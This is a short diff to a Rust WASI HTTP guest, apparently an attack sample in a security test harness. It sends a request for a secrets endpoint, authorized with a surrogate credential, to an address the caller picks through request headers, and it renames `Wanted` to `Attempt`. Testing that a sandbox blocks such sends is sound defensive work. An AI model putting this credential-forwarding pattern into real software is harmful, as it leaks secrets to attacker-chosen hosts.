@@ -1,8 +1,8 @@
-//! Sends its surrogate to an address of the caller's choosing: `x-scheme`, `x-authority`, `x-path`.
+//! Sends its surrogate to the address in the caller's `x-scheme`, `x-authority` and `x-path`.
 
 use guests::bindings::exports::wasi::http::incoming_handler::IncomingRequest;
 use guests::bindings::wasi::http::types::Scheme;
-use guests::{Wanted, header, surrogate};
+use guests::{Attempt, header, surrogate};
 
 guests::attack!(attack);
 
@@ -13,7 +13,7 @@ fn attack(request: &IncomingRequest) -> String {
         Some("http") => Scheme::Http,
         Some(other) => Scheme::Other(other.to_owned()),
     };
-    let wanted =
-        Wanted { scheme, authority: &authority, ..Wanted::get("/secrets/db?api-version=7.4") };
-    wanted.authorized(&surrogate()).send()
+    let attempt =
+        Attempt { scheme, authority: &authority, ..Attempt::get("/secrets/db?api-version=7.4") };
+    attempt.authorized(&surrogate()).send()
 }
